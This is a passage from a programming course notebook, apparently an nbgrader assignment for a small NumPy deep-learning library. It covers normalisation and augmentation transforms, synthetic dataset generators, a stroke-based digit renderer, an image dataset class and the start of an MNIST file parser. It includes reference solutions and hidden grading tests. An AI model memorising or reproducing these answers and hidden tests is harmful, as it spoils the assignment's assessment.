    np.testing.assert_allclose(out[:, 2], (images[:, 2] - 0.3) / 0.5, rtol=1e-6)
    # (N, D): one value per feature; a single number for everything.
    flat = rng.random((6, 2), dtype=np.float32)
    np.testing.assert_allclose(Normalize([1.0, 2.0], [2.0, 4.0])(flat), (flat - [1, 2]) / [2, 4], rtol=1e-6)
    np.testing.assert_allclose(Normalize(0.1307, 0.3081)(flat), (flat - 0.1307) / 0.3081, rtol=1e-6)

    both = Compose([Normalize(0.5, 0.5), lambda a: a * 10])
    np.testing.assert_allclose(both(flat), (flat - 0.5) / 0.5 * 10, rtol=1e-6)
    np.testing.assert_array_equal(Compose([])(flat), flat)

    with pytest.raises(ValueError, match=r"3 mean/std values but the batch has 1 channels"):
        norm(np.zeros((2, 1, 4, 4)))
    with pytest.raises(ValueError, match="every std > 0"):
        Normalize(0.0, 0.0)

    ### BEGIN HIDDEN TESTS
    # Integers become float32; float64 stays float64.
    assert Normalize(0.0, 1.0)(np.ones((2, 3), dtype=np.uint8)).dtype == np.float32
    assert Normalize(0.0, 2.0)(np.ones((2, 3))).dtype == np.float64
    assert "mean=[0.5" in repr(norm)
    with pytest.raises(TypeError, match="callables"):
        Compose([3])
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_normalize_and_compose()

# %% [markdown]
# ### RandomCrop without a loop over samples
#
# `RandomCrop(size, padding)` pads each image with `padding` zeros on every side and cuts out a
# `size × size` window at a random position, **a different position for every sample**. The
# obvious code is a loop, `for n in range(N): out[n] = padded[n, :, i[n]:i[n]+h, j[n]:j[n]+w]`.
# The vectorised version needs one idea: `sliding_window_view`.
#
# `sliding_window_view(padded, (h, w), axis=(-2, -1))` is a *view* (no copy, no memory) of
# every `h × w` window of every image. For a batch `(N, C, H, W)` it has shape
# `(N, C, H-h+1, W-w+1, h, w)`: axes 2 and 3 say *where* the window starts, axes 4 and 5 are
# the window's pixels. Choosing one window per sample is then one fancy index:
#
# ```
#   windows[arange(N), :, top, left]        top, left: (N,) random integers
#            │         │   └────┴── the start of sample n's window is (top[n], left[n])
#            │         └── all channels
#            └── sample n
#   → (N, C, h, w): NumPy gathers N windows in one C loop (a copy of just the crops)
# ```
#
# Padding 4 and cropping back to 32 shifts a CIFAR image by up to 4 pixels in each direction,
# filling the gap with black, like a camera that moved a little.
#
# ### RandomHorizontalFlip
#
# Each image is mirrored left-right with probability `p`: draw `N` coin flips, then reverse the
# last axis of the chosen samples in one masked assignment. (Vertical flips are not used for
# natural images or digits: an upside-down cat is rarely photographed, and a flipped 6 is a 9.)
#
# Both take `(N, C, H, W)` or `(N, H, W)` batches. A flattened `(N, D)` batch has no rows and
# columns any more, so both refuse it: augment first, flatten afterwards.

# %% nbgrader={"grade": false, "grade_id": "random-crop-flip", "locked": false, "schema_version": 3, "solution": true}
#| export
def _image_batch(x: Any, who: str) -> np.ndarray:
    x = _as_array(x)
    if x.ndim not in (3, 4):
        raise ValueError(f"{who} expects a batch of images (N, C, H, W) or (N, H, W); got shape {x.shape}. "
                         f"A flattened (N, D) batch has no rows and columns: apply {who} before flattening.")
    return x


def _pair(value: Any, what: str) -> tuple[int, int]:
    pair = (value, value) if _is_int(value) else tuple(value)
    if len(pair) != 2 or not all(_is_int(v) and v > 0 for v in pair):
        raise ValueError(f"{what} must be a positive integer or a pair (height, width), got {value!r}.")
    return int(pair[0]), int(pair[1])


class RandomCrop(Transform):
    """Pad every image by `padding` zeros, then cut a `size` window at a random place per sample.

    RandomCrop(size, padding=0): size is an int (square) or (height, width).
    """

    def __init__(self, size: int | tuple[int, int], padding: int = 0) -> None:
        self.size = _pair(size, "RandomCrop size")
        if not _is_int(padding) or padding < 0:
            raise ValueError(f"RandomCrop padding must be an integer >= 0, got {padding!r}.")
        self.padding = int(padding)

    def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
        """(N, [C,] H, W) -> (N, [C,] h, w): one random window per sample, no loop over samples.

        HINTS:
        - np.pad(x, [(0, 0)] * (x.ndim - 2) + [(p, p), (p, p)]) pads only the last two axes.
        - windows = sliding_window_view(padded, (h, w), axis=(-2, -1))
        - top = rng.integers(0, H - h + 1, size=N), left likewise (H, W: the padded sizes).
        - windows[(np.arange(N), *([slice(None)] * (x.ndim - 3)), top, left)] picks one
          window per sample, keeping the channel axis of a 4-D batch.
        """
        x = _image_batch(x, "RandomCrop")
        rng = get_rng() if rng is None else rng
        (h, w), p = self.size, self.padding
        height, width = x.shape[-2] + 2 * p, x.shape[-1] + 2 * p
        if h > height or w > width:
            raise ValueError(f"RandomCrop size {(h, w)} is larger than the padded images "
                             f"({height}, {width}) of the batch of shape {x.shape}.")
        ### BEGIN SOLUTION
        if p:
            x = np.pad(x, [(0, 0)] * (x.ndim - 2) + [(p, p), (p, p)])
        windows = sliding_window_view(x, (h, w), axis=(-2, -1))  # a view: no memory, no copy
        n = len(x)
        top = rng.integers(0, height - h + 1, size=n)
        left = rng.integers(0, width - w + 1, size=n)
        channels = (slice(None),) * (x.ndim - 3)
        return windows[(np.arange(n), *channels, top, left)]
        ### END SOLUTION

    def extra_repr(self) -> str:
        return f"size={self.size}, padding={self.padding}"


class RandomHorizontalFlip(Transform):
    """Mirror each image left-right with probability p (one coin per sample)."""

    def __init__(self, p: float = 0.5) -> None:
        if not isinstance(p, numbers.Real) or not 0.0 <= p <= 1.0:
            raise ValueError(f"RandomHorizontalFlip p must be a number in [0, 1], got {p!r}.")
        self.p = float(p)

    def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
        """A new batch in which each chosen image has its last axis reversed.

        HINT: flip = rng.random(N) < p; copy x, then assign x[flip][..., ::-1] to the chosen rows.
        """
        x = _image_batch(x, "RandomHorizontalFlip")
        rng = get_rng() if rng is None else rng
        ### BEGIN SOLUTION
        flip = rng.random(len(x)) < self.p
        out = x.copy()
        out[flip] = x[flip][..., ::-1]
        return out
        ### END SOLUTION

    def extra_repr(self) -> str:
        return f"p={self.p}"

# %% nbgrader={"grade": true, "grade_id": "test-random-crop-flip", "locked": true, "points": 10, "schema_version": 3, "solution": false}
def test_unit_random_crop_and_flip():
    import pytest

    rng = np.random.default_rng(0)
    images = rng.integers(1, 255, size=(64, 3, 8, 8)).astype(np.float32)

    # No padding: each crop is a window of its own image, at positions that vary across samples.
    crops = RandomCrop(5)(images, rng=np.random.default_rng(1))
    assert crops.shape == (64, 3, 5, 5) and crops.dtype == np.float32
    offsets = []
    for n in (0, 1, 2, 63):
        found = [(i, j) for i in range(4) for j in range(4)
                 if np.array_equal(crops[n], images[n, :, i:i + 5, j:j + 5])]
        assert found, f"crop {n} is not a window of image {n}"
        offsets.append(found[0])
    all_offsets = {(i, j) for n in range(64) for i in range(4) for j in range(4)
                   if np.array_equal(crops[n], images[n, :, i:i + 5, j:j + 5])}
    assert len(all_offsets) > 8  # per-sample offsets, not one offset for the whole batch

    # Padding: the crop has the original size and zeros where it slid off the image.
    padded = RandomCrop(8, padding=2)(images, rng=np.random.default_rng(2))
    assert padded.shape == images.shape
    assert (padded == 0).any() and set(np.unique(padded)) - {0.0} <= set(np.unique(images))
    # Reproducible from the generator; (N, H, W) batches work too.
    np.testing.assert_array_equal(RandomCrop(5)(images, rng=np.random.default_rng(1)), crops)
    assert RandomCrop((3, 4))(images[:, 0]).shape == (64, 3, 4)

    flip = RandomHorizontalFlip(0.5)(images, rng=np.random.default_rng(3))
    mirrored = np.array([np.array_equal(flip[n], images[n, :, :, ::-1]) for n in range(64)])
    same = np.array([np.array_equal(flip[n], images[n]) for n in range(64)])
    assert np.all(mirrored ^ same) and 16 < mirrored.sum() < 48
    np.testing.assert_array_equal(RandomHorizontalFlip(1.0)(images), images[..., ::-1])
    np.testing.assert_array_equal(RandomHorizontalFlip(0.0)(images), images)

    with pytest.raises(ValueError, match=r"flattened \(N, D\) batch"):
        RandomCrop(2)(np.zeros((4, 10)))
    with pytest.raises(ValueError, match="larger than the padded images"):
        RandomCrop(12, padding=1)(images)

    ### BEGIN HIDDEN TESTS
    # Through a loader with a seed: the same augmented batches twice.
    ds = TensorDataset(images, np.arange(64))
    aug = Compose([RandomCrop(8, padding=1), RandomHorizontalFlip()])
    run1 = [x.data for x, _ in DataLoader(ds, batch_size=16, shuffle=True, seed=5, transform=aug)]
    run2 = [x.data for x, _ in DataLoader(ds, batch_size=16, shuffle=True, seed=5, transform=aug)]
    for a, b in zip(run1, run2):
        np.testing.assert_array_equal(a, b)
    assert run1[0].shape == (16, 3, 8, 8)
    with pytest.raises(ValueError, match=r"\[0, 1\]"):
        RandomHorizontalFlip(1.5)
    with pytest.raises(ValueError, match="positive integer or a pair"):
        RandomCrop(0)
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_random_crop_and_flip()

# %% [markdown]
# ## 5. Datasets you can generate
#
# Real datasets are large, need a download and take minutes to train on. For tests, demos and
# the first milestones you want data that is **small, instant, offline and deterministic**, with
# a known difficulty. Generated data gives all four, so the package ships generators instead of
# data files:
#
# | generator | data | hard for… |
# |---|---|---|
# | `make_xor(n, noise)` | 2-D points near the corners of the unit square, label = x₀ XOR x₁ | any linear model (Minsky & Papert, 1969) |
# | `make_spirals(n_per_class, classes, noise)` | interleaved 2-D spiral arms (the CS231n classic) | a linear model; a small MLP draws the arms |
# | `make_blobs(n_per_class, centers, n_features, std)` | Gaussian clusters | nobody: a sanity check |
# | `load_digits(n_per_class, size)` | 8×8 images of the digits 0–9, drawn from stroke templates | a real but small image task |
#
# **Convention:** every generator returns `(X, y)` NumPy arrays, features float32 and labels
# int64, **shuffled** (so `X[:800]` is a fair training split), like scikit-learn. Wrap them as you
# need: `TensorDataset(*make_spirals(100))`. Each takes a `seed`; with `seed=None` it draws
# from TinyTorch's generator, so `manual_seed` reproduces it too.
#
# Your turn: the three point generators.

# %% nbgrader={"grade": false, "grade_id": "toy-datasets", "locked": false, "schema_version": 3, "solution": true}
#| export
def _generator(seed: int | None) -> np.random.Generator:
    """np.random.default_rng(seed), or TinyTorch's generator when seed is None."""
    if seed is None:
        return get_rng()
    if not _is_int(seed):
        raise TypeError(f"seed must be an integer or None, got {seed!r}.")
    return np.random.default_rng(seed)


def _check_count(value: Any, what: str, minimum: int = 1) -> int:
    if not _is_int(value) or value < minimum:
        raise ValueError(f"{what} must be an integer >= {minimum}, got {value!r}.")
    return int(value)


def _shuffled(X: np.ndarray, y: np.ndarray, rng: np.random.Generator) -> tuple[np.ndarray, np.ndarray]:
    order = rng.permutation(len(y))
    return X[order].astype(np.float32), y[order].astype(np.int64)


def make_xor(n: int = 200, noise: float = 0.1, seed: int | None = None) -> tuple[np.ndarray, np.ndarray]:
    """The XOR problem: points near the corners (0,0), (0,1), (1,0), (1,1); label = x0 XOR x1.

    Returns X (n, 2) float32 (corner + noise * standard normal) and y (n,) int64.
    HINT: corners = rng.integers(0, 2, size=(n, 2)); the label is corners[:, 0] ^ corners[:, 1].
    """
    n, rng = _check_count(n, "n"), _generator(seed)
    ### BEGIN SOLUTION
    corners = rng.integers(0, 2, size=(n, 2))
    X = corners + noise * rng.standard_normal((n, 2))
    return X.astype(np.float32), (corners[:, 0] ^ corners[:, 1]).astype(np.int64)
    ### END SOLUTION


def make_spirals(n_per_class: int = 100, classes: int = 3, noise: float = 0.2,
                 seed: int | None = None) -> tuple[np.ndarray, np.ndarray]:
    """Interleaved spiral arms, one per class (CS231n). Returns X (classes*n, 2) and y, shuffled.

    Arm k: radius r = linspace(0, 1, n_per_class); angle = 4 r + 2πk/classes + noise * normal;
    the point is (r sin(angle), r cos(angle)).
    HINT: compute all arms at once with k = np.arange(classes)[:, None] broadcasting against r.
    """
    n, classes, rng = _check_count(n_per_class, "n_per_class"), _check_count(classes, "classes"), _generator(seed)
    ### BEGIN SOLUTION
    r = np.linspace(0.0, 1.0, n)[None, :]                       # (1, n): the same radii on every arm
    k = np.arange(classes)[:, None]                             # (classes, 1)
    angle = 4.0 * r + 2 * np.pi * k / classes + noise * rng.standard_normal((classes, n))
    X = np.stack([r * np.sin(angle), r * np.cos(angle)], axis=-1).reshape(-1, 2)
    y = np.repeat(np.arange(classes), n)
    return _shuffled(X, y, rng)
    ### END SOLUTION


def make_blobs(n_per_class: int = 100, centers: int | Any = 3, n_features: int = 2, std: float = 1.0,
               seed: int | None = None) -> tuple[np.ndarray, np.ndarray]:
    """Gaussian clusters. `centers`: a number of clusters (centres uniform in [-10, 10]^n_features)
    or an array (k, n_features) of centres. Returns X (k*n_per_class, n_features) and y, shuffled."""
    n, rng = _check_count(n_per_class, "n_per_class"), _generator(seed)
    if _is_int(centers):
        shape = (_check_count(centers, "centers"), _check_count(n_features, "n_features"))
        middles = rng.uniform(-10.0, 10.0, size=shape)
    else:
        middles = np.asarray(centers, dtype=np.float64)
        if middles.ndim != 2 or len(middles) == 0:
            raise ValueError(f"centers must be a count or an array (k, n_features); got shape {middles.shape}.")
    ### BEGIN SOLUTION
    y = np.repeat(np.arange(len(middles)), n)
    X = middles[y] + std * rng.standard_normal((len(y), middles.shape[1]))
    return _shuffled(X, y, rng)
    ### END SOLUTION

# %% nbgrader={"grade": true, "grade_id": "test-toy-datasets", "locked": true, "points": 6, "schema_version": 3, "solution": false}
def test_unit_toy_datasets():
    X, y = make_xor(400, noise=0.0, seed=0)
    assert X.shape == (400, 2) and X.dtype == np.float32 and y.dtype == np.int64
    np.testing.assert_array_equal(y, (X[:, 0] != X[:, 1]).astype(np.int64))
    assert set(map(tuple, X.tolist())) == {(0.0, 0.0), (0.0, 1.0), (1.0, 0.0), (1.0, 1.0)}
    Xn, _ = make_xor(400, noise=0.1, seed=0)
    assert 0.05 < np.std(Xn - X) < 0.15

    X, y = make_spirals(50, classes=4, noise=0.0, seed=1)
    assert X.shape == (200, 2) and np.bincount(y).tolist() == [50] * 4
    radius = np.linalg.norm(X, axis=1)
    assert radius.max() <= 1.0 + 1e-6 and radius.min() < 1e-6
    # Shuffled, and deterministic from the seed.
    assert not np.array_equal(y[:50], np.zeros(50))
    np.testing.assert_array_equal(make_spirals(50, 4, 0.3, seed=1)[0], make_spirals(50, 4, 0.3, seed=1)[0])

    centres = np.array([[0.0, 0.0, 0.0], [10.0, 10.0, 10.0]])
    X, y = make_blobs(300, centers=centres, std=0.5, seed=2)
    assert X.shape == (600, 3)
    np.testing.assert_allclose(X[y == 1].mean(axis=0), [10, 10, 10], atol=0.15)
    np.testing.assert_allclose(X[y == 0].std(axis=0), 0.5, atol=0.1)
    assert make_blobs(10, centers=5, n_features=4, seed=3)[0].shape == (50, 4)

    manual_seed(3)
    a = make_spirals(20)
    manual_seed(3)
    np.testing.assert_array_equal(make_spirals(20)[0], a[0])

    ### BEGIN HIDDEN TESTS
    import pytest

    with pytest.raises(ValueError, match="n_per_class"):
        make_spirals(0)
    with pytest.raises(TypeError, match="seed must be an integer"):
        make_xor(10, seed=1.5)
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_toy_datasets()

# %% [markdown]
# ### Digits from strokes
#
# `load_digits` makes a small image dataset with no files at all. Each digit is a few
# **strokes**, polylines in a unit square (a `0` is an ellipse, a `4` is three lines, an `8`
# two loops). Every sample draws its own handwriting: a random rotation, shear, scale and shift
# of the strokes, a random pen width, and pixel noise. The strokes are rendered by **distance**:
# a pixel is ink when it lies within the pen's width of a stroke.
#
# ```
#   template "7"            random pen                    render at 24×24,          8×8 image
#   (0.22,0.10)──(0.78,0.10)  rotate ±14°, shear ±0.25,   ink = 1 - (dist - width)/0.03  average 3×3 blocks
#              ╱             scale 0.75–1.05, shift ±0.08   clipped to [0, 1]            + noise
#   (0.42,0.90)
# ```
#
# Rendering at 3× the resolution and averaging each 3×3 block (**supersampling**) anti-aliases
# the strokes, so a line that passes between two pixel centres still leaves grey on both. The
# distance from every pixel to a segment `a → b` is vectorised over all samples at once:
# project the pixel onto the segment, `t = clip(((p - a)·(b - a)) / |b - a|², 0, 1)`, and measure
# `|p - (a + t (b - a))|`. The only Python loop is over the ~19 segments of the longest digit,
# never over samples or pixels.
#
# The task is learnable but not trivial. Measured with 100 training images per digit and 1 000
# held-out ones: softmax regression on the 64 pixels reaches 92% after 200 full-batch steps
# and 96% at convergence; a 64-64-10 MLP trained through this module's `DataLoader` (batch 32,
# plain SGD, learning rate 0.1) passes 90% after 10 epochs (0.2 s) and ends near 95%. The
# templates are given; your turn is the renderer.

# %% nbgrader={"grade": false, "grade_id": "digit-templates", "locked": false, "schema_version": 3, "solution": false}
#| export
def _arc(cx: float, cy: float, rx: float, ry: float, start: float = 0.0, stop: float = 360.0,
         points: int = 11) -> list[tuple[float, float]]:
    """Points along an ellipse around (cx, cy), angles in degrees clockwise from 12 o'clock (y points down)."""
    angles = np.deg2rad(np.linspace(start, stop, points))
    return [(cx + rx * np.sin(a), cy - ry * np.cos(a)) for a in angles]


# Each digit is a list of polylines in the unit square (x to the right, y down).
DIGIT_STROKES: dict[int, list[list[tuple[float, float]]]] = {
    0: [_arc(0.5, 0.5, 0.26, 0.38, points=13)],
    1: [[(0.32, 0.28), (0.52, 0.10), (0.52, 0.90)]],
    2: [_arc(0.5, 0.32, 0.24, 0.20, -70, 110, 7) + [(0.24, 0.90), (0.78, 0.90)]],
    3: [_arc(0.48, 0.30, 0.24, 0.19, -60, 180, 8), _arc(0.48, 0.69, 0.27, 0.21, 0, 240, 9)],
    4: [[(0.66, 0.90), (0.66, 0.10), (0.20, 0.64), (0.82, 0.64)]],
    5: [[(0.76, 0.10), (0.32, 0.10), (0.28, 0.46)], _arc(0.48, 0.65, 0.26, 0.24, -60, 220, 9)],
    6: [[(0.68, 0.10), (0.42, 0.30), (0.27, 0.62)], _arc(0.5, 0.67, 0.23, 0.22, 0, 360, 11)],
    7: [[(0.22, 0.10), (0.78, 0.10), (0.42, 0.90)]],
    8: [_arc(0.5, 0.29, 0.19, 0.19, 0, 360, 10), _arc(0.5, 0.70, 0.24, 0.21, 0, 360, 11)],
    9: [_arc(0.5, 0.33, 0.23, 0.22, 0, 360, 11), [(0.73, 0.35), (0.62, 0.90)]],
}


def _segment_table() -> np.ndarray:
    """(10, S, 2, 2) float32: segment s of digit d goes from [d, s, 0] to [d, s, 1], as (x, y).

    Digits with fewer segments repeat their last one, which changes no distance.
    """
    per_digit = [[(p, q) for line in DIGIT_STROKES[d] for p, q in zip(line[:-1], line[1:])] for d in range(10)]
    most = max(len(segments) for segments in per_digit)
    return np.array([s + [s[-1]] * (most - len(s)) for s in per_digit], dtype=np.float32)


_DIGIT_SEGMENTS = _segment_table()

# %% nbgrader={"grade": false, "grade_id": "load-digits", "locked": false, "schema_version": 3, "solution": true}
#| export
def render_strokes(segments: np.ndarray, width: np.ndarray, size: int, supersample: int = 3) -> np.ndarray:
    """Draw line segments as anti-aliased images.

    segments: (N, S, 2, 2) float32 endpoints in the unit square (x, y); width: (N,) pen widths.
    Returns (N, size, size) float32 in [0, 1]: ink = clip(1 - (distance - width) / 0.03, 0, 1),
    computed on a grid `supersample` times finer, then averaged over supersample × supersample blocks.

    HINTS:
    - Pixel centres of the fine grid: g = (np.arange(res) + 0.5) / res with res = size * supersample;
      px = g[None, None, :] (x, along columns) and py = g[None, :, None] (y, along rows).
    - Keep the smallest squared distance so far, (N, res, res), and loop over the S segments only:
      with a = segments[:, s, 0] and d = segments[:, s, 1] - a (shape each (N, 1, 1) per coordinate),
      t = clip(((px - ax) dx + (py - ay) dy) / (dx² + dy²), 0, 1), then the squared distance to
      (ax + t dx, ay + t dy). Guard the division for zero-length segments.
    - Block average: reshape (N, size, supersample, size, supersample) and mean over axes (2, 4).
    """
    n, res = len(segments), size * supersample
    grid = ((np.arange(res) + 0.5) / res).astype(np.float32)
    px, py = grid[None, None, :], grid[None, :, None]
    ### BEGIN SOLUTION
    nearest = np.full((n, res, res), np.inf, dtype=np.float32)
    for s in range(segments.shape[1]):
        ax, ay = segments[:, s, 0, 0, None, None], segments[:, s, 0, 1, None, None]
        dx, dy = segments[:, s, 1, 0, None, None] - ax, segments[:, s, 1, 1, None, None] - ay
        t = ((px - ax) * dx + (py - ay) * dy) / np.maximum(dx * dx + dy * dy, np.float32(1e-12))
        np.clip(t, 0.0, 1.0, out=t)
        ex, ey = px - ax - t * dx, py - ay - t * dy
        np.minimum(nearest, ex * ex + ey * ey, out=nearest)
    ink = np.clip(1.0 - (np.sqrt(nearest) - width[:, None, None]) / np.float32(0.03), 0.0, 1.0)
    return ink.reshape(n, size, supersample, size, supersample).mean(axis=(2, 4)).astype(np.float32)
    ### END SOLUTION


def load_digits(n_per_class: int = 100, size: int = 8, noise: float = 0.1,
                seed: int | None = None) -> tuple[np.ndarray, np.ndarray]:
    """Generated handwritten-style digits: X (10*n_per_class, 1, size, size) float32 in [0, 1], y int64.

    Every sample is its digit's strokes under a random rotation (±14°), shear, scale and shift,
    drawn with a random pen width, plus Gaussian pixel noise. Shuffled; deterministic from `seed`.
    """
    n_per_class, size, rng = _check_count(n_per_class, "n_per_class"), _check_count(size, "size", 4), _generator(seed)
    y = rng.permutation(np.repeat(np.arange(10), n_per_class))
    n = len(y)
    angle = rng.uniform(-0.25, 0.25, n)
    shear = rng.uniform(-0.25, 0.25, n)
    scale = rng.uniform([0.75, 0.8], [1.05, 1.05], size=(n, 2))
    cos, sin = np.cos(angle), np.sin(angle)
    rotate = np.stack([np.stack([cos, -sin], -1), np.stack([sin, cos], -1)], axis=1)      # (n, 2, 2)
    shear_m = np.zeros((n, 2, 2))
    shear_m[:, 0, 0], shear_m[:, 0, 1], shear_m[:, 1, 1] = 1.0, shear, 1.0
    affine = rotate @ shear_m * scale[:, None, :]               # rotate · shear · diag(scale), per sample
    shift = rng.uniform(-0.08, 0.08, size=(n, 1, 1, 2))
    centred = _DIGIT_SEGMENTS[y] - 0.5                          # (n, S, 2, 2), about the centre
    segments = np.einsum("nij,nskj->nski", affine, centred) + 0.5 + shift
    width = rng.uniform(0.035, 0.065, n).astype(np.float32)
    images = render_strokes(segments.astype(np.float32), width, size)
    images /= np.maximum(images.max(axis=(1, 2), keepdims=True), np.float32(1e-6))   # full contrast
    images += np.float32(noise) * rng.standard_normal(images.shape, dtype=np.float32)
    return np.clip(images, 0.0, 1.0)[:, None], y.astype(np.int64)

# %% nbgrader={"grade": true, "grade_id": "test-load-digits", "locked": true, "points": 8, "schema_version": 3, "solution": false}
def test_unit_load_digits():
    # A horizontal stroke through the middle of the image: ink on the middle rows only.
    bar = np.array([[[[0.1, 0.5], [0.9, 0.5]]]], dtype=np.float32)
    image = render_strokes(bar, np.array([0.05], dtype=np.float32), size=8)
    assert image.shape == (1, 8, 8) and image.dtype == np.float32
    rows = image[0].mean(axis=1)
    assert rows[3] > 0.3 and rows[4] > 0.3 and rows[0] == 0 and rows[7] == 0
    assert 0.0 <= image.min() and image.max() <= 1.0

    X, y = load_digits(60, seed=0)
    assert X.shape == (600, 1, 8, 8) and X.dtype == np.float32 and y.dtype == np.int64
    assert np.bincount(y).tolist() == [60] * 10
    assert 0.0 <= X.min() and X.max() <= 1.0
    np.testing.assert_array_equal(load_digits(5, seed=3)[0], load_digits(5, seed=3)[0])
    assert load_digits(2, size=16, seed=0)[0].shape == (20, 1, 16, 16)

    # Learnable: softmax regression, trained on one sample, tested on another, beats 85%.
    Xtr, ytr = load_digits(150, seed=1)
    Xte, yte = load_digits(50, seed=2)
    A, B = Xtr.reshape(len(Xtr), -1), Xte.reshape(len(Xte), -1)
    W, b = np.zeros((64, 10), dtype=np.float32), np.zeros(10, dtype=np.float32)
    for _ in range(200):
        z = A @ W + b
        p = np.exp(z - z.max(axis=1, keepdims=True))
        p /= p.sum(axis=1, keepdims=True)
        p[np.arange(len(ytr)), ytr] -= 1.0
        W -= 0.5 * A.T @ p / len(A)
        b -= 0.5 * p.mean(axis=0)
    accuracy = ((B @ W + b).argmax(axis=1) == yte).mean()
    assert accuracy > 0.85, accuracy
    # Every sample has its own handwriting: no two images of a class are the same.
    zeros = A[ytr == 0]
    assert len(np.unique(zeros.round(3), axis=0)) == len(zeros)


if __name__ == "__main__":
    test_unit_load_digits()

# %% [markdown]
# ## 6. Real data on disk
#
# ### Images in memory: bytes, not floats
#
# An image file stores each pixel as one byte, 0–255. A model wants float32 in [0, 1]. Where
# should the conversion happen?
#
# | convert… | MNIST train (60 000 × 28 × 28) in memory | CIFAR-10 train (50 000 × 3 × 32 × 32) |
# |---|---|---|
# | once, at load time: keep float32 | 188 MB | 614 MB |
# | per batch: keep uint8, convert each batch | **47 MB** | **154 MB** |
#
# Converting a batch of 64 MNIST images costs microseconds (the Memory Profiling section
# measures it), and gathering a uint8 batch reads 4× fewer bytes than gathering a float32 one.
# So `ImageDataset` keeps the pixels as **uint8** and converts in `get_batch`:
#
# ```
#   .data      uint8 (N, C, H, W)   the pixels, as in the file        (torchvision: .data)
#   .targets   int64 (N,)           the labels                        (torchvision: .targets)
#   .classes   ["airplane", ...]    a name per label
#   get_batch(idx) → (data[idx] as float32 / 255, targets[idx])       one gather, one conversion
# ```
#
# Images are `(N, C, H, W)` even for grey MNIST (`C = 1`), like torchvision, so the same code
# serves convolutions (module 09). An MLP flattens each batch: `x.reshape(len(x), -1)`, or a
# transform `lambda x: x.reshape(len(x), -1)` on the loader.
#
# Your turn: `get_batch`, reusing `TensorDataset`'s gather.

# %% nbgrader={"grade": false, "grade_id": "image-dataset", "locked": false, "schema_version": 3, "solution": true}
#| export
class ImageDataset(TensorDataset):
    """Images kept as uint8 (N, C, H, W) in memory, served as float32 in [0, 1], with int64 labels.

    ImageDataset(images, labels, classes=None, name="ImageDataset")
    Attributes: data (uint8 images), targets (int64 labels), classes (a name per label).
    """

    def __init__(self, images: Any, labels: Any, classes: Sequence[str] | None = None,
                 name: str = "ImageDataset") -> None:
        images, labels = _as_array(images), _as_array(labels)
        if images.dtype != np.uint8 or images.ndim != 4:
            raise TypeError(f"ImageDataset stores pixels as uint8 (N, C, H, W); got {images.dtype} "
                            f"with shape {images.shape}. Float images belong in a TensorDataset.")
        if labels.ndim != 1 or not np.issubdtype(labels.dtype, np.integer):
            raise TypeError(f"ImageDataset labels must be a 1-D integer array, got {labels.dtype} {labels.shape}.")
        super().__init__(images, labels.astype(np.int64, copy=False))
        count = int(labels.max()) + 1 if labels.size else 0
        self.classes = list(classes) if classes is not None else [str(c) for c in range(count)]
        self.name = name

    @property
    def data(self) -> np.ndarray:
        return self.arrays[0]

    @property
    def targets(self) -> np.ndarray:
        return self.arrays[1]

    def get_batch(self, indices: Any) -> tuple[np.ndarray, np.ndarray]:
        """(float32 images in [0, 1], int64 labels) for `indices`: one gather, then one conversion.

        HINT: super().get_batch(indices) gathers the uint8 images and the labels; convert the
        images with astype(np.float32) and divide by 255 in place (`/=`, no second array).
        """
        ### BEGIN SOLUTION
        images, labels = super().get_batch(indices)
        pixels = images.astype(np.float32)
        pixels /= 255
        return pixels, labels
        ### END SOLUTION

    def __repr__(self) -> str:
        _, c, h, w = self.data.shape
        return (f"{self.name}({len(self):,} images of {c}×{h}×{w}, {len(self.classes)} classes; "
                f"uint8 in memory, {self.data.nbytes / 1e6:.1f} MB)")

# %% nbgrader={"grade": true, "grade_id": "test-image-dataset", "locked": true, "points": 6, "schema_version": 3, "solution": false}
def test_unit_image_dataset():
    import pytest

    pixels = np.arange(6 * 2 * 3 * 3, dtype=np.uint8).reshape(6, 2, 3, 3) * 3
    ds = ImageDataset(pixels, np.array([0, 1, 2, 0, 1, 2]), classes=["a", "b", "c"], name="tiny")
    images, labels = ds.get_batch([5, 0])
    assert images.dtype == np.float32 and images.shape == (2, 2, 3, 3) and labels.dtype == np.int64
    np.testing.assert_allclose(images, pixels[[5, 0]] / 255.0, rtol=1e-6)
    image, label = ds[1]
    assert image.shape == (2, 3, 3) and image.dtype == np.float32 and label == 1
    assert ds.data.dtype == np.uint8 and ds.data.nbytes == pixels.nbytes  # bytes, not floats
    assert ds.classes == ["a", "b", "c"] and list(ds.targets) == [0, 1, 2, 0, 1, 2]
    xb, yb = next(iter(DataLoader(ds, batch_size=6)))
    assert xb.dtype == np.float32 and 0.0 <= xb.data.min() and xb.data.max() <= 1.0
    with pytest.raises(TypeError, match="uint8"):
        ImageDataset(pixels.astype(np.float32), np.zeros(6, dtype=np.int64))
    assert "tiny(6 images of 2×3×3, 3 classes" in repr(ds)


if __name__ == "__main__":
    test_unit_image_dataset()

# %% [markdown]
# ### The idx format (MNIST)
#
# MNIST (LeCun, Cortes and Burges, 1998) ships as four gzip-compressed **idx** files. An idx
# file is a tiny header and then raw bytes:
#
# ```
#   offset  bytes  meaning                        train-images-idx3-ubyte
#   0       2      zero                           00 00
#   2       1      element type (0x08 = uint8)    08
#   3       1      number of dimensions D         03          → magic number 0x00000803 = 2051
#   4       4·D    size of each dimension,        00 00 ea 60  (60 000)
#                  big-endian uint32              00 00 00 1c  (28)   00 00 00 1c (28)
#   4+4·D   ...    the elements, row-major        47 040 000 pixel bytes
# ```
#
# The labels file has magic 2049 (`08`, one dimension) and then 60 000 label bytes. Reading it
# takes no loop at all: `np.frombuffer` views the bytes after the header as an array (no copy)
# and `reshape` gives it the sizes from the header.
#
# A parser must **check everything the header claims**. A wrong magic number means the wrong
# file (images where labels were expected). A size mismatch means a truncated or padded file.
# Without the checks, `reshape` fails with a NumPy message about an array of size 47 039 000,
# or worse, a wrong file parses "successfully" as garbage. Our errors name the file and say
# what was expected.

# %% nbgrader={"grade": false, "grade_id": "read-idx", "locked": false, "schema_version": 3, "solution": true}
#| export
IDX_UBYTE = 0x08


def _read_maybe_gzip(path: Path) -> bytes:
    """The bytes of `path`, decompressed if its name ends in .gz; a clear error if the gzip is broken."""
    raw = path.read_bytes()
    if path.suffix != ".gz":
        return raw
    try:
        return gzip.decompress(raw)
    except (EOFError, OSError, zlib.error) as e:
